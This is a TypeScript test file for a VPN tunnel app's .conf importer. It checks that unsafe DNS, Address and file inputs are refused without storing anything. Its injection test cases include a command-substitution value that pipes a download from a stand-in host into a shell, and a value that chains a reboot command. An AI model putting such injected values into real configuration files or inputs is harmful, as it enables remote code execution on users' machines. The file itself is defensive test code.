// Importing a .conf from the Tunnel tab: a DNS entry that could reach resolvconf as anything but an address or a
// search domain, an IPv6 zone id, a FIFO or a folder chosen as the file: each refused with what to do, nothing stored.
import { execaSync } from 'execa';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { SafeStorageSecretStore } from '../../../main/app/secrets/safe-storage-store.js';
import { importConf, readConfFile } from '../../../main/core/tunnel/conf-import.js';
import { ConfigStore } from '../../../main/core/config/store.js';
import { resolveBinary } from '../../../main/core/process/binaries.js';
import { renderDesktopConfig } from '../../../main/core/tunnel/config.js';
import { TunnelConfigError } from '../../../main/core/tunnel/errors.js';
import { generateKeyPair } from '../../../main/core/tunnel/keys.js';
import { safeStorage } from '../../mocks/electron.js';
import { binary, describeWith } from '../../helpers/requirements.js';
import { tempDir } from '../../helpers/tmp.js';

function setup() {
  const home = tempDir();
  return { home, config: new ConfigStore(path.join(home, 'config.json')), secrets: new SafeStorageSecretStore(path.join(home, 'secrets.safe.json'), safeStorage, 'linux') };
}

const conf = renderDesktopConfig({
  privateKey: generateKeyPair().privateKey,
  address: '10.0.0.1/24',
  vpsPublicKey: generateKeyPair().publicKey,
  vpsTunnelAddress: '10.0.0.2',
  endpoint: 'vps.example.org:51820',
  keepalive: 25,
  presharedKey: null,
});

async function refusal(text: string): Promise<TunnelConfigError> {
  const deps = setup();
  const err = await importConf(deps, '/tmp/jett.conf', text).then(() => null, (e: unknown) => e);
  expect(err).toBeInstanceOf(TunnelConfigError);
  expect(await deps.secrets.list()).toEqual([]);
  expect(deps.config.load().tunnel.peerPublicKey).toBe('');
  return err as TunnelConfigError;
}

describe('importing a .conf', () => {
  it('refuses a DNS line carrying shell or resolv.conf syntax, naming the file and the line', async () => {
    const line = conf.split('\n').findIndex((l) => l === '[Peer]') + 1;
    for (const bad of ['10.0.0.2, $(curl evil.example|sh)', '10.0.0.2;reboot', 'home.arpa\u0000', '10.0.0.2\u000boptions ndots:15']) {
      const err = await refusal(conf.replace('[Peer]', `DNS = ${bad}\n[Peer]`));
      expect(err.message).toMatch(new RegExp(`^/tmp/jett\\.conf: line ${line}: DNS: `));
      expect(err.fix).toMatch(/DNS/);
    }
  });

  it('keeps a DNS line of addresses and search domains', async () => {
    const deps = setup();
    await importConf(deps, '/tmp/jett.conf', conf.replace('[Peer]', 'DNS = 10.0.0.2, home.arpa\n[Peer]'));
    expect(await deps.secrets.list()).toEqual(['tunnel.privateKey']);
  });

  it('refuses an Address with an IPv6 zone id instead of failing with a RangeError', async () => {
    const err = await refusal(conf.replace('Address = 10.0.0.1/24', 'Address = 10.0.0.1/24, fe80::%1/64'));
    expect(err.message).toMatch(/line 4: Address: "fe80::%1\/64" has a zone id/);
    expect(err.fix).toMatch(/remove the "%"/);
  });
});

describe('reading the chosen file', () => {
  it('a folder is called a folder', () => {
    const dir = path.join(tempDir(), 'jett.conf');
    fs.mkdirSync(dir);
    expect(() => readConfFile(dir)).toThrow(`${dir} is a folder, not a file`);
  });

  it('a file over 64 KiB is refused before it is read', () => {
    const file = path.join(tempDir(), 'big.conf');
    fs.writeFileSync(file, '');
    fs.truncateSync(file, 1024 * 1024 * 1024);
    expect(() => readConfFile(file)).toThrow(/larger than 65536 bytes/);
  });
});

describeWith([binary('mkfifo')], 'a FIFO chosen as the .conf', () => {
  it('is refused at once instead of hanging the app', () => {
    const fifo = path.join(tempDir(), 'jett.conf');
    execaSync(resolveBinary('mkfifo')!, [fifo]);
    expect(() => readConfFile(fifo)).toThrow(TunnelConfigError);
    expect(() => readConfFile(fifo)).toThrow(`${fifo} is a FIFO (named pipe), not a regular file`);
  });
});
